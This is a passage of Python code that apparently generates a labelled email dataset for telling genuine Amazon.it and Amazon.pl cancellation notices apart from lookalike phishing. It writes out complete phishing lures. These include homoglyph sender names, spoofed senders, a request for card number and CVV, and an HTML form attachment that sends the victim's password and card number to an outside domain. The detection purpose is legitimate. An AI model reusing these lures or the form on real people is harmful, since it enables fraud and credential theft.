    subject="1 articolo è stato annullato dal tuo ordine Amazon.it n. %s" % o,
    title="Articolo annullato",
    paras=["Ci dispiace informarti che abbiamo dovuto annullare l'articolo seguente del tuo ordine n. %s." % o,
           "Il venditore ci ha comunicato che l'articolo è esaurito e non è più in grado di fornirlo. Al momento non sappiamo quando tornerà disponibile.",
           "Non ti è stato addebitato alcun importo per questo articolo. Se sul tuo metodo di pagamento è presente un'autorizzazione, verrà rilasciata entro 3-5 giorni lavorativi. Gli altri articoli dell'ordine verranno spediti come previsto."],
    items=[("De'Longhi Dedica EC685.M Macchina da caffè espresso manuale, Metallo", 1, "EUR 169,90", "Amazon.it")],
    after=["Puoi controllare lo stato degli altri articoli in [I miei ordini](https://www.amazon.it/gp/css/order-history)."]),
    "notice", "it", "inventory_shortage", True, "amazon.it", "partial cancellation, seller out of stock; card html; auth pass")

o = order_no("171")
label(amazon_notice(
    IT, style="card", fmt="text", sender="payments-messages@amazon.it", rcpt=R_IT[3], auth=False, cte="8bit",
    charset="iso-8859-15", order=o,
    subject="Il tuo ordine Amazon.it n. %s è stato annullato" % o,
    paras=["Ti abbiamo scritto in precedenza perché non è stato possibile autorizzare il pagamento con la carta Visa che termina con 4417 per l'ordine n. %s. La banca emittente ha rifiutato la transazione." % o,
           "Poiché non abbiamo ricevuto un nuovo metodo di pagamento entro la scadenza indicata, abbiamo annullato l'ordine. Non ti è stato addebitato alcun importo.",
           "Se desideri ancora questi articoli, puoi effettuare un nuovo ordine su Amazon.it. Ti consigliamo di verificare che i dati della carta salvati in Il mio account siano aggiornati."],
    items=[("Philips Serie 5000 Rasoio elettrico Wet & Dry S5887/30", 1, "EUR 99,99", "Amazon.it"),
           ("Gillette Lamette di ricambio Fusion5 ProGlide, 8 pezzi", 1, "EUR 27,49", "Amazon.it")]),
    "notice", "it", "payment_issue", True, "amazon.it", "card declined, payment revision not made in time; text only, iso-8859-15 8bit; no auth")

o = order_no("405")
label(amazon_notice(
    IT, style="classic", fmt="html", sender="order-update@amazon.it", rcpt=R_IT[1], auth=True, cte="base64", order=o,
    subject="Aggiornamento sul tuo ordine Amazon.it n. %s" % o, title="Ordine annullato",
    paras=["Abbiamo annullato il tuo ordine perché il prezzo dell'articolo era indicato in modo errato sul sito a causa di un errore tecnico nella pagina del prodotto.",
           "Il prezzo corretto dell'articolo è 749,00 €, mentre al momento dell'ordine veniva visualizzato 74,90 €. Ci scusiamo per l'inconveniente.",
           "Non è stato effettuato alcun addebito. Se lo desideri, puoi ordinare di nuovo l'articolo al prezzo corretto."],
    items=[("Samsung Galaxy Tab S9 FE, 128 GB, Wi-Fi, Grigio", 1, "74,90 €", "Amazon.it")]),
    "notice", "it", "technical_issue", True, "amazon.it", "pricing error; classic html only, base64; auth pass")

o = order_no("406")
label(amazon_notice(
    IT, style="card", fmt="alt", sender="cs-reply@amazon.it", rcpt=R_IT[4], auth=False, cte="base64", order=o,
    subject="Il tuo ordine Amazon.it n. %s è stato annullato" % o, title="Ordine annullato",
    paras=["Durante un controllo di sicurezza abbiamo rilevato un'attività insolita sul tuo account Amazon.it. Per proteggerti, abbiamo annullato l'ordine n. %s e messo temporaneamente in attesa il tuo account." % o,
           "Per sbloccare l'account, accedi ad Amazon.it dall'app o dal browser digitando tu stesso l'indirizzo, e segui le istruzioni per verificare la tua identità.",
           "Non ti è stato addebitato alcun importo per questo ordine."],
    items=[("Apple AirPods Pro (2ª generazione) con custodia MagSafe (USB-C)", 1, "EUR 249,00", "Amazon.it")]),
    "notice", "it", "fraud_prevention", True, "amazon.it", "unusual activity, account on hold; card alt base64; no auth")

o = order_no("403")
label(amazon_notice(
    IT, style="card", fmt="text", sender="auto-confirm@amazon.it", rcpt=R_IT[2], auth=True, cte="quoted-printable", order=o,
    subject='Annullamento riuscito di "LEGO Technic Bugatti Bolide 42151..." dal tuo ordine Amazon.it',
    paras=["Come richiesto, abbiamo annullato l'articolo seguente del tuo ordine n. %s." % o,
           "Motivo dell'annullamento: Annullato dal cliente",
           "Se hai pagato con carta di credito, l'autorizzazione verrà rilasciata. Se l'importo è già stato addebitato, riceverai il rimborso entro pochi giorni lavorativi."],
    items=[("LEGO Technic Bugatti Bolide 42151, Modellino di Auto da Costruire", 1, "EUR 39,99", "Amazon.it")]),
    "notice", "it", "customer_request", True, "amazon.it", "successful cancellation at customer's request; text only qp; auth pass")

o = order_no("404")
label(amazon_notice(
    IT, style="card", fmt="html", sender="order-update@amazon.it", rcpt=R_IT[5], auth=False, cte="quoted-printable", order=o,
    subject="Il tuo ordine Amazon.it n. %s è stato annullato" % o, title="Ordine annullato",
    paras=["Ci dispiace, ma abbiamo dovuto annullare il tuo ordine n. %s perché l'articolo non può essere spedito all'indirizzo selezionato (Livigno, 23041 SO): il venditore non effettua consegne in questa zona." % o,
           "Non ti è stato addebitato alcun importo. Puoi ordinare di nuovo scegliendo un altro indirizzo di consegna o un punto di ritiro."],
    items=[("Einhell Trapano avvitatore a batteria TE-CD 18/40 Li, con 2 batterie", 1, "EUR 89,95", "Ferramenta Rossi Srl")]),
    "notice", "it", "unknown", True, "amazon.it", "cannot ship to selected address; card html only qp; no auth")

# ---- non-notices
label(other(fmt="alt", sender=("laFeltrinelli", "ordini@lafeltrinelli.it"), rcpt=R_IT[0], bstyle="mailer",
            subject="Il tuo ordine n. 104588320 è stato annullato",
            pre=vps_headers("lafeltrinelli.it", R_IT[0][3], when(), auth="own", helo="mta-07.lafeltrinelli.it"),
            text="Ciao Giulia,\n\nci dispiace: il tuo ordine n. 104588320 del 14/10 è stato annullato perché il titolo\n\"Il nome della rosa - Edizione illustrata\" (Umberto Eco) non è più disponibile presso il nostro fornitore.\n\nL'importo di 38,00 € pagato con Amazon Pay sarà rimborsato sul metodo di pagamento associato al tuo account Amazon entro 5 giorni lavorativi. Per domande sul rimborso puoi consultare anche l'estratto movimenti di Amazon Pay.\n\nGrazie per aver scelto laFeltrinelli.\nIl Servizio Clienti laFeltrinelli\n\nlaFeltrinelli Internet Bookshop S.r.l. - Via Tucidide 56, 20134 Milano\n",
            html="<html><body style=\"font-family:Georgia,serif\"><table width=\"600\"><tr><td style=\"background:#e20613;color:#fff;padding:12px;font-size:22px\">laFeltrinelli</td></tr>"
                 "<tr><td style=\"padding:16px\"><p>Ciao Giulia,</p><p>ci dispiace: il tuo ordine <b>n. 104588320</b> del 14/10 è stato annullato perché il titolo "
                 "<i>Il nome della rosa - Edizione illustrata</i> (Umberto Eco) non è più disponibile presso il nostro fornitore.</p>"
                 "<p>L'importo di <b>38,00 €</b> pagato con <b>Amazon Pay</b> sarà rimborsato sul metodo di pagamento associato al tuo account Amazon entro 5 giorni lavorativi.</p>"
                 "<p>Grazie per aver scelto laFeltrinelli.<br>Il Servizio Clienti</p></td></tr>"
                 "<tr><td style=\"font-size:10px;color:#777\">laFeltrinelli Internet Bookshop S.r.l. - Via Tucidide 56, 20134 Milano</td></tr></table></body></html>\n"),
      "non_notice", "it", None, False, None, "other retailer (laFeltrinelli) cancellation, paid with Amazon Pay")

label(other(fmt="text", sender=("Chiara Lombardi", "chiara.lombardi91@gmail.com"), rcpt=("Elena Conti", "elena.conti@outlook.it", "", R_IT[4][3]),
            subject="Re: regalo per Sara", cte="8bit", bstyle="gmail",
            pre=freemail_headers("gmail.com", "chiara.lombardi91@gmail.com", R_IT[4][3], when()),
            text="Ciao Ele,\n\nti aggiorno: ho annullato l'ordine su Amazon del robot da cucina, perché da MediaWorld lo fanno a 40 euro in meno e lo posso ritirare sabato mattina. Amazon mi ha già mandato la conferma dell'annullamento, quindi nessun addebito.\nSe ti va facciamo a metà come dicevamo, poi ti giro l'IBAN.\n\nA sabato!\nChiara\n\nIl giorno mar 15 ott 2024 alle ore 21:12 Elena Conti <elena.conti@outlook.it> ha scritto:\n> Ok per me, prendilo tu che hai Prime :)\n"),
      "non_notice", "it", None, False, None, "friend says she cancelled her Amazon order")

label(other(fmt="alt", sender=("SicurezzaDigitale Newsletter", "newsletter@sicurezzadigitale-news.it"), rcpt=R_IT[1], cte="base64",
            subject="Truffe della settimana: il finto \"ordine Amazon annullato\"", bstyle="mailer",
            pre=vps_headers("sicurezzadigitale-news.it", R_IT[1][3], when(), auth="own", helo="out.mailrelay-eu.net"),
            post=[("List-Unsubscribe", "<https://sicurezzadigitale-news.it/unsubscribe?u=%s>" % hexs(16)), ("Precedence", "bulk")],
            text="SicurezzaDigitale - la newsletter del lunedì\n\nTRUFFE DELLA SETTIMANA\n\nIn questi giorni molti lettori ci hanno segnalato un'e-mail con oggetto:\n\n  \"Il tuo ordine Amazon n. 402-7731902-1182345 è stato annullato - azione richiesta\"\n\nIl messaggio sostiene che il pagamento non è andato a buon fine e invita a \"riattivare l'ordine\" inserendo i dati della carta su un sito che imita Amazon. È phishing: Amazon non chiede mai i dati della carta via e-mail.\n\nCome riconoscerle:\n- controlla il mittente reale, non solo il nome visualizzato;\n- passa il mouse sopra i link prima di cliccare;\n- verifica gli ordini aprendo tu stesso l'app o il sito.\n\nAlla prossima settimana!\nLa redazione\n\nPer disiscriverti: https://sicurezzadigitale-news.it/unsubscribe\n",
            html="<html><body style=\"font-family:Arial\"><h1 style=\"color:#1a4d8f\">SicurezzaDigitale</h1><h2>Truffe della settimana</h2>"
                 "<p>In questi giorni molti lettori ci hanno segnalato un'e-mail con oggetto:</p>"
                 "<blockquote style=\"border-left:3px solid #ccc;padding-left:8px\">Il tuo ordine Amazon n. 402-7731902-1182345 è stato annullato - azione richiesta</blockquote>"
                 "<p>Il messaggio sostiene che il pagamento non è andato a buon fine e invita a “riattivare l'ordine” inserendo i dati della carta su un sito che imita Amazon. <b>È phishing</b>: Amazon non chiede mai i dati della carta via e-mail.</p>"
                 "<ul><li>controlla il mittente reale, non solo il nome visualizzato;</li><li>passa il mouse sopra i link prima di cliccare;</li><li>verifica gli ordini aprendo tu stesso l'app o il sito.</li></ul>"
                 "<p>Alla prossima settimana!<br>La redazione</p><p style=\"font-size:10px\"><a href=\"https://sicurezzadigitale-news.it/unsubscribe\">Disiscriviti</a></p></body></html>\n"),
      "non_notice", "it", None, False, None, "newsletter about phishing quoting a fake cancellation subject")

o = order_no("404")
label(amazon_notice(
    IT, style="card", fmt="alt", sender="fresh-noreply@amazon.it", name_sender="Amazon Fresh", rcpt=R_IT[5], auth=True, cte="quoted-printable", order=o,
    subject="La tua fascia oraria di consegna Amazon Fresh è stata annullata",
    title="Fascia di consegna annullata",
    paras=["Purtroppo abbiamo dovuto annullare la fascia oraria di consegna di giovedì 7 novembre, 18:00-20:00, a causa di un'interruzione della viabilità nella tua zona.",
           "Il tuo ordine n. %s non è stato annullato: rimane valido e gli articoli sono riservati per te. Scegli una nuova fascia oraria entro domani alle 12:00 in [I miei ordini](https://www.amazon.it/gp/css/order-history)." % o,
           "Come scusa per il disagio, le spese di consegna di questo ordine sono gratuite."],
    items_heading="Il tuo ordine",
    items=[("Spesa Amazon Fresh - 23 articoli", 1, "EUR 86,40", "Amazon Fresh")],
    button=("Scegli una nuova fascia", amz_r("amazon.it", "https://www.amazon.it/alm/slotselection"))),
      "non_notice", "it", None, False, None, "Amazon Fresh delivery slot cancelled, order still valid")

label(other(fmt="alt", sender=("Audible", "donotreply@audible.it"), rcpt=R_IT[2], cte="quoted-printable", bstyle="amazon",
            subject="Conferma: il tuo abbonamento Audible è stato annullato",
            pre=vps_headers("audible.it", R_IT[2][3], when(), auth="own", helo="a48-110.smtp-out.amazonses.com"),
            text="Ciao Francesca,\n\nti confermiamo che il tuo abbonamento Audible Premium Plus è stato annullato. Non ti verrà addebitato il prossimo rinnovo mensile (9,99 €).\n\nI titoli che hai acquistato restano nella tua Libreria e puoi ascoltarli quando vuoi. Ricordati di usare i 2 crediti rimasti prima della chiusura dell'abbonamento il 28/11/2024.\n\nCambiato idea? Puoi riattivare l'abbonamento in qualsiasi momento da https://www.audible.it/account/overview\n\nIl Team di Audible\n\nAudible GmbH, Schumannstrasse 6, 10117 Berlino, Germania. Audible è una società del gruppo Amazon.\n",
            html="<html><body style=\"font-family:Arial;color:#232f3e\"><p style=\"font-size:22px;color:#f7991c\"><b>audible</b> <span style=\"font-size:11px;color:#999\">un'azienda Amazon</span></p>"
                 "<p>Ciao Francesca,</p><p>ti confermiamo che il tuo abbonamento <b>Audible Premium Plus</b> è stato annullato. Non ti verrà addebitato il prossimo rinnovo mensile (9,99 €).</p>"
                 "<p>I titoli che hai acquistato restano nella tua Libreria. Ricordati di usare i 2 crediti rimasti prima del 28/11/2024.</p>"
                 "<p><a href=\"https://www.audible.it/account/overview\">Riattiva l'abbonamento</a></p><p>Il Team di Audible</p>"
                 "<p style=\"font-size:10px;color:#999\">Audible GmbH, Schumannstrasse 6, 10117 Berlino, Germania.</p></body></html>\n"),
      "non_notice", "it", None, False, None, "Audible subscription cancelled")

o = order_no("028")
label(amazon_notice(
    IT, style="card", fmt="alt", sender="payments-messages@amazon.it", rcpt=R_IT[3], auth=True, cte="quoted-printable", order=o,
    subject="Azione richiesta: aggiorna il metodo di pagamento per l'ordine n. %s" % o,
    title="Aggiorna il metodo di pagamento",
    paras=["Non siamo riusciti ad autorizzare il pagamento con la carta Mastercard che termina con 0932 per il tuo ordine n. %s." % o,
           "Per evitare ritardi, aggiorna il metodo di pagamento entro il 24 ottobre accedendo a [I miei ordini](https://www.amazon.it/gp/css/order-history) e selezionando \"Modifica metodo di pagamento\". Se non aggiorni il pagamento entro questa data, l'ordine verrà annullato.",
           "Per motivi di sicurezza non includiamo link diretti per l'inserimento dei dati della carta: accedi sempre digitando www.amazon.it nel browser o tramite l'app Amazon Shopping."],
    items_heading="Articoli in attesa di pagamento",
    items=[("Nintendo Switch OLED - Bianco", 1, "EUR 319,99", "Amazon.it")]),
      "non_notice", "it", None, False, None, "genuine payment reminder: order will be cancelled if not updated; nothing cancelled yet")

# ---- lookalikes (it)
label(other(fmt="text", sender=("Amazon Servizio Clienti", "amazon.rimborsi.italia@gmail.com"), rcpt=R_IT[0], cte="8bit",
            subject="Ordine annullato - Rimborso in sospeso #402-8812390-5521076", bstyle="gmail",
            pre=freemail_headers("gmail.com", "amazon.rimborsi.italia@gmail.com", R_IT[0][3], when()),
            text="Gentile Cliente,\n\nIl suo ordine #402-8812390-5521076 (Apple iPhone 15 Pro Max 256GB - Titanio naturale, 1.299,00 EUR) e stato ANNULLATO su sua richiesta.\n\nIl rimborso di 1.299,00 EUR e attualmente IN SOSPESO per verifiche di sicurezza.\n\nSe NON ha richiesto lei l'annullamento o non riconosce questo ordine, chiami IMMEDIATAMENTE il nostro reparto sicurezza al numero gratuito:\n\n      +39 02 9475 1183   (attivo 24 ore su 24)\n\nUn operatore la guidera per bloccare l'operazione e sbloccare il rimborso.\n\nCordiali saluti,\nServizio Clienti Amazon Italia\n"),
      "lookalike", "it", "customer_request", True, None, "callback phone number; gmail sender; crude text")

L_DOM = "amazon-it-accountservice.com"
label(other(fmt="alt", sender=("\u0410m\u0430zon.it", "no-reply@" + L_DOM), rcpt=R_IT[1], cte="quoted-printable", bstyle="mailer",
            subject="Account sospeso: il tuo ordine è stato annullato",
            pre=vps_headers(L_DOM, R_IT[1][3], when(), auth="own"),
            text=plain_from_html_paras("Il tuo account è stato sospeso",
                                       ["Gentile cliente,",
                                        "abbiamo rilevato attività sospette sul tuo account. Per la tua sicurezza il tuo account è stato sospeso e l'ordine n. 402-1193827-6640218 è stato annullato.",
                                        "Per riattivare l'account inserisci il seguente codice di verifica nella pagina di sblocco entro 24 ore:",
                                        "Codice di verifica: 584-221",
                                        "Se non completi la verifica, il tuo account verrà chiuso definitivamente."],
                                       ("Riattiva il tuo account", "http://%s/it/verify?code=584221&c=%s" % (L_DOM, hexs(10))),
                                       ["© 2024 Amazon.com, Inc. o le sue affiliate."]),
            html=phish_html("Amazon.it", "Il tuo account è stato sospeso",
                            ["Gentile cliente,",
                             "abbiamo rilevato attività sospette sul tuo account. Per la tua sicurezza il tuo account è stato sospeso e l'ordine n. 402-1193827-6640218 è stato annullato.",
                             "Per riattivare l'account inserisci il seguente codice di verifica nella pagina di sblocco entro 24 ore:",
                             "Codice di verifica: 584-221",
                             "Se non completi la verifica, il tuo account verrà chiuso definitivamente."],
                            ("Riattiva il tuo account", "http://%s/it/verify?code=584221&c=%s" % (L_DOM, hexs(10))),
                            ["© 2024 Amazon.com, Inc. o le sue affiliate."])),
      "lookalike", "it", "fraud_prevention", True, None, "Cyrillic homoglyph display name; account suspended + order cancelled + verification code")

label(other(fmt="text", sender=("Amazon.it Pagamenti", "pagamenti-amazon.it@outlook.com"), rcpt=R_IT[2], cte="quoted-printable",
            charset="windows-1252", subject="Pagamento non riuscito - ordine annullato n. 171-5520934-88312", bstyle="outlook",
            pre=freemail_headers("outlook.com", "pagamenti-amazon.it@outlook.com", R_IT[2][3], when()),
            text="Gentile cliente Amazon,\n\nil pagamento per il suo ordine n. 171-5520934-88312 non è andato a buon fine e l'ordine è stato annullato dal nostro sistema.\n\nPer riattivare l'ordine senza perdere il prezzo promozionale, risponda a questa e-mail indicando:\n\n- Nome e cognome del titolare\n- Numero della carta (16 cifre)\n- Data di scadenza\n- Codice CVV (3 cifre sul retro)\n\nI dati saranno verificati da un operatore entro 2 ore. Senza risposta l'ordine non potrà essere riattivato.\n\nGrazie per la collaborazione,\nUfficio Pagamenti Amazon.it\n"),
      "lookalike", "it", "payment_issue", True, None, "reply with card details; outlook.com sender; malformed order number")

L_DOM = "amazon-orders.help"
fake = lambda target: "https://%s/it/r?u=%s" % (L_DOM, hexs(20))
o = order_no("402")
sp = amazon_notice(
    IT, style="card", fmt="alt", sender="order-update@" + L_DOM, rcpt=R_IT[3], auth=False, cte="quoted-printable", order=o, link=fake,
    subject="Il tuo ordine Amazon.it n. %s è stato annullato" % o, title="Ordine annullato",
    paras=["Ci dispiace informarti che il tuo ordine n. %s è stato annullato perché l'articolo non è più disponibile presso il venditore." % o,
           "Per ricevere il rimborso di 329,00 € devi confermare i dati di rimborso entro 48 ore su [https://www.amazon.it/gp/css/refunds/confirm](https://%s/it/rimborso?id=%s)." % (L_DOM, hexs(12)),
           "Se non confermi entro il termine, l'importo verrà trattenuto come credito."],
    items=[("Dyson V8 Absolute Aspirapolvere senza filo", 1, "EUR 329,00", "Amazon.it")],
    button=("Conferma il rimborso", "https://%s/it/rimborso?id=%s" % (L_DOM, hexs(12))))
sp["pre_headers"] = vps_headers(L_DOM, R_IT[3][3], sp["date"], auth="own", helo="mta1." + L_DOM)
sp["post_headers"] = []
sp["reply_to"] = None
sp["msgid"] = "<%s@%s>" % (hexs(24), L_DOM)
label(sp, "lookalike", "it", "inventory_shortage", True, None, "polished copy of Amazon card template; link text shows amazon.it, href amazon-orders.help")

L_DOM = "amaz0n-it.com"
label(other(fmt="html", sender=("\u0391maz\u03bfn.it", "servizio@" + L_DOM), rcpt=R_IT[4], cte="base64",
            subject="Il tuo ordine sarà annullato: conferma il nuovo importo",
            pre=vps_headers(L_DOM, R_IT[4][3], when(), auth="none"),
            html=phish_html("Amazon.it", "Conferma il nuovo importo del tuo ordine",
                            ["Gentile cliente,",
                             "a causa di un errore di sistema, il prezzo del tuo ordine n. 403-2281756-0093317 è stato calcolato in modo errato.",
                             "Il tuo ordine sarà annullato automaticamente se non confermi il nuovo importo (+4,99 €) entro 24 ore.",
                             "Clicca sul pulsante qui sotto e accedi con i dati del tuo account Amazon per confermare."],
                            ("Conferma importo", "https://%s/conferma/ordine?ref=%s" % (L_DOM, hexs(8))),
                            ["Amazon.it - Servizio Clienti", "Questa è un'e-mail automatica."])),
      "lookalike", "it", "technical_issue", True, None, "Greek homoglyph display name; amaz0n domain; will be cancelled unless confirmed; html only")

L_DOM = "amazon.it.verifica-ordini.top"
pp = ["Gentile cliente,",
      "la carta associata al tuo account risulta scaduta e non è stato possibile completare il pagamento del tuo ordine #IT-40299182.",
      "Il tuo ordine sarà annullato tra 24 ore se non aggiorni il metodo di pagamento.",
      "Aggiorna ora i tuoi dati di pagamento per evitare l'annullamento."]
btn = ("Aggiorna il pagamento", "https://%s/signin?ordine=40299182" % L_DOM)
label(other(fmt="alt", sender=("Amazon", "ordini@" + L_DOM), rcpt=R_IT[5], cte="quoted-printable", bstyle="x",
            subject="Ultimo avviso: il tuo ordine sarà annullato tra 24 ore",
            pre=vps_headers("verifica-ordini.top", R_IT[5][3], when(), auth="own"),
            text=plain_from_html_paras("Amazon.it", pp, btn, ["Amazon.it"]),
            html=phish_html("Amazon.it", "Problema con il pagamento", pp, btn, ["Amazon.it"])),
      "lookalike", "it", "payment_issue", True, None, "amazon.it.evil.tld subdomain; malformed order number; will be cancelled unless act")

label(other(fmt="text", sender=("AMAZON ITALIA", "servizio.clienti.amz@yahoo.com"), rcpt=R_IT[0], cte="8bit", charset="iso-8859-1",
            subject="ORDINE CANCELLATO!!! verifica subito il tuo account",
            pre=freemail_headers("yahoo.com", "servizio.clienti.amz@yahoo.com", R_IT[0][3], when()),
            text="Caro Cliente Amazon\n\nIL TUO ORDINE E STATO CANCELLATO.\n\nPer sapere di piu e ricevere i tuoi soldi clicca qui sotto:\nhttp://bit.ly/amz-ordine-it\n\nse non fai entro oggi perdi tutto\n\nAmazon Italia Servizio\n"),
      "lookalike", "it", "unknown", False, None, "crude; yahoo sender; no order number; no reason")

L_DOM = "spedizioni-express24.ru"
att = ("<html><head><title>Amazon - Modulo indirizzo</title></head><body><h3>Amazon.it - Aggiorna indirizzo di consegna</h3>"
       "<form action=\"https://%s/it/submit.php\" method=\"post\">Nome: <input name=\"n\"><br>Indirizzo: <input name=\"a\"><br>"
       "E-mail: <input name=\"e\"><br>Password Amazon: <input name=\"p\" type=\"password\"><br>Numero carta: <input name=\"c\"><br>"
       "<button>Invia</button></form></body></html>\n" % L_DOM)
o = order_no("402")
label(other(fmt="html", sender=("Amazon.it", "order-update@amazon.it"), rcpt=R_IT[1], cte="quoted-printable", bstyle="mailer",
            reply_to="assistenza.amazon.it@gmail.com",
            subject="Il tuo ordine Amazon.it n. %s è stato annullato" % o,
            pre=vps_headers(L_DOM, R_IT[1][3], when(), auth="spoof:amazon.it", helo="host-%s.static.vps" % rid(6, "0123456789")),
            html=phish_html("Amazon.it", "Ordine annullato",
                            ["Gentile cliente,",
                             "il tuo ordine n. %s è stato annullato perché l'indirizzo di spedizione non è stato riconosciuto dal corriere." % o,
                             "Compila il modulo in allegato per aggiornare l'indirizzo e ricevere nuovamente la merce. Senza aggiornamento la merce tornerà al mittente."],
                            None, ["Amazon.it | I miei ordini | Il mio account"]),
            attach=[("Modulo_aggiornamento_indirizzo.html", "text/html", att)]),
      "lookalike", "it", "unknown", True, None, "spoofed From amazon.it with dmarc=fail; gmail Reply-To; HTML form attachment; address reason")


# =================================================================== POLSKI (amazon.pl)
PL = dict(
    mp="amazon.pl", brand="Amazon.pl", nav=["Twoje zamówienia", "Twoje konto", "Amazon.pl"], order_word="Zamówienie nr",
    items_heading="Anulowane produkty", qty="Ilość", sold="Sprzedawca", signoff="Mamy nadzieję, że wkrótce znów nas odwiedzisz.",
    footer=[
        "Amazon.pl nigdy nie poprosi Cię o podanie hasła, pełnego numeru karty płatniczej ani kodu BLIK w wiadomości e-mail, SMS-ie czy podczas rozmowy telefonicznej.",
        "Jeśli numer Twojej karty uległ zmianie lub karta straciła ważność, zaktualizuj dane w sekcji [Twoje konto](https://www.amazon.pl/cpe/yourpayments/wallet).",
        "Otrzymałeś podejrzaną wiadomość, która wygląda jak wiadomość od Amazon? [Zgłoś ją](https://www.amazon.pl/gp/help/customer/display.html?nodeId=GDS2QRWFNBSB3T6C).",
        "Więcej informacji znajdziesz na [stronach Pomocy](https://www.amazon.pl/gp/help/customer/display.html?nodeId=508510).",
        "Ta wiadomość została wysłana z adresu, który służy wyłącznie do wysyłania powiadomień i nie przyjmuje poczty przychodzącej. Prosimy na nią nie odpowiadać.",
        "© 2024 Amazon.com, Inc. lub podmioty stowarzyszone. Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luksemburg.",
    ])
R_PL = [
    ("Anna Kowalska", "anna.kowalska@wp.pl", "Dzień dobry Anna,", "mx.wp.pl"),
    ("Piotr Nowak", "piotr.nowak@onet.pl", "Dzień dobry Piotr,", "mx.poczta.onet.pl"),
    ("Katarzyna Wiśniewska", "kasia.wisniewska@interia.pl", "Dzień dobry Katarzyna,", "mx.interia.pl"),
    ("Tomasz Wójcik", "tomasz.wojcik@gmail.com", "Dzień dobry Tomasz,", "mx.google.com"),
    ("Magdalena Lewandowska", "m.lewandowska@o2.pl", "Dzień dobry Magdalena,", "mx.o2.pl"),
    ("Jakub Kamiński", "jakub.kaminski@outlook.com", "Dzień dobry Jakub,", "DB9PR05MB8840.eurprd05.prod.outlook.com"),
]

# ---- notices
o = order_no("405")
label(amazon_notice(
    PL, style="classic", fmt="alt", sender="order-update@amazon.pl", rcpt=R_PL[0], auth=False, cte="quoted-printable", order=o,
    subject="Twoje zamówienie przedpremierowe Amazon.pl nr %s zostało anulowane" % o, title="Zamówienie anulowane",
    paras=["Z przykrością informujemy, że musieliśmy anulować Twoje zamówienie przedpremierowe nr %s." % o,
           "Dostawca poinformował nas, że nie otrzymamy zamówionej liczby egzemplarzy tego produktu, dlatego nie jesteśmy w stanie zrealizować zamówienia przedpremierowego.",
           "Nie pobraliśmy żadnej płatności. Jeśli na Twojej karcie widnieje blokada środków, zostanie ona zwolniona w ciągu kilku dni roboczych."],
    items=[("Assassin's Creed Shadows – Edycja Kolekcjonerska (PS5)", 1, "1 099,00 zł", "Amazon.pl")]),
    "notice", "pl", "inventory_shortage", True, "amazon.pl", "pre-order cannot be filled, supplier short; classic alt qp; no auth")

o = order_no("406")
label(amazon_notice(
    PL, style="card", fmt="text", sender="payments-messages@amazon.pl", rcpt=R_PL[5], auth=True, authstyle="ms", cte="8bit",
    charset="iso-8859-2", order=o,
    subject="Twoje zamówienie Amazon.pl nr %s zostało anulowane" % o,
    paras=["Niedawno poinformowaliśmy Cię, że nie udało się obciążyć karty Mastercard kończącej się na 2291 kwotą za zamówienie nr %s. Bank odrzucił transakcję z powodu niewystarczających środków." % o,
           "Ponieważ w ciągu 7 dni nie zaktualizowano metody płatności, anulowaliśmy zamówienie. Nie pobraliśmy żadnej opłaty.",
           "Jeśli nadal chcesz kupić te produkty, złóż nowe zamówienie i upewnij się, że dane płatności w sekcji Twoje konto są aktualne."],
    items=[("Xiaomi Robot Vacuum S10+ Robot sprzątający z funkcją mopowania", 1, "1 299,00 zł", "Amazon.pl")]),
    "notice", "pl", "payment_issue", True, "amazon.pl", "card declined (insufficient funds), not updated in time; text iso-8859-2 8bit; auth pass (MS style)")

o = order_no("407")
label(amazon_notice(
    PL, style="card", fmt="html", sender="order-update@amazon.pl", rcpt=R_PL[1], auth=True, cte="base64", order=o,
    subject="Informacja dotycząca Twojego zamówienia Amazon.pl nr %s" % o, title="Zamówienie anulowane",
    paras=["Anulowaliśmy Twoje zamówienie nr %s, ponieważ z powodu błędu w ofercie produkt został wyświetlony z nieprawidłowym opisem i ceną." % o,
           "Oferta zawierała błąd techniczny: zamiast ceny kompletu 4 opon wyświetlana była cena jednej sztuki. Przepraszamy za zamieszanie.",
           "Nie pobraliśmy żadnej płatności. Możesz ponownie złożyć zamówienie, gdy oferta zostanie poprawiona."],
    items=[("Michelin CrossClimate 2 205/55 R16 91H – komplet 4 szt.", 1, "389,00 zł", "OponyPro24")]),
    "notice", "pl", "technical_issue", True, "amazon.pl", "listing/price error; card html only base64; auth pass")

o = order_no("405")
label(amazon_notice(
    PL, style="card", fmt="alt", sender="cs-reply@amazon.pl", rcpt=R_PL[2], auth=False, cte="quoted-printable",
    charset="iso-8859-2", order=o,
    subject="Twoje zamówienie Amazon.pl nr %s zostało anulowane" % o, title="Zamówienie anulowane",
    paras=["Twoje zamówienie nr %s zostało oznaczone do weryfikacji bezpieczeństwa. Nie udało nam się potwierdzić, że zostało złożone przez właściciela konta i metody płatności, dlatego je anulowaliśmy." % o,
           "Aby chronić Twoje konto, tymczasowo wstrzymaliśmy możliwość składania zamówień. Zaloguj się na Amazon.pl, wpisując adres samodzielnie w przeglądarce, i postępuj zgodnie z instrukcjami, aby potwierdzić swoją tożsamość.",
           "Nie pobraliśmy żadnej płatności za to zamówienie."],
    items=[("Apple iPhone 15 128 GB – czarny", 1, "3 499,00 zł", "Amazon.pl")]),
    "notice", "pl", "fraud_prevention", True, "amazon.pl", "security review, identity verification; card alt iso-8859-2 qp; no auth")

o = order_no("403")
label(amazon_notice(
    PL, style="card", fmt="text", sender="auto-confirm@amazon.pl", rcpt=R_PL[3], auth=False, cte="base64", order=o,
    subject="Potwierdzenie anulowania: „Tefal Ingenio Emotion Zestaw garnków 13 el...” z Twojego zamówienia Amazon.pl",
    paras=["Zgodnie z Twoją prośbą anulowaliśmy następujący produkt z zamówienia nr %s." % o,
           "Przyczyna anulowania: Anulowane przez klienta",
           "Jeśli płatność została już pobrana, zwrot pojawi się na Twoim koncie w ciągu kilku dni roboczych."],
    items=[("Tefal Ingenio Emotion Zestaw garnków 13 elementów, stal nierdzewna", 1, "649,99 zł", "Amazon.pl")]),
    "notice", "pl", "customer_request", True, "amazon.pl", "customer-cancelled item; text base64; no auth")

o = order_no("402")
label(amazon_notice(
    PL, style="card", fmt="html", sender="order-update@amazon.pl", rcpt=R_PL[4], auth=True, cte="quoted-printable", order=o,
    subject="Twoje zamówienie Amazon.pl nr %s zostało anulowane" % o, title="Zamówienie anulowane",
    paras=["Informujemy, że Twoje zamówienie nr %s zostało anulowane." % o,
           "Jeśli płatność została już pobrana, zwrócimy pełną kwotę na pierwotną metodę płatności. Zwrot jest zwykle widoczny w ciągu 3–5 dni roboczych.",
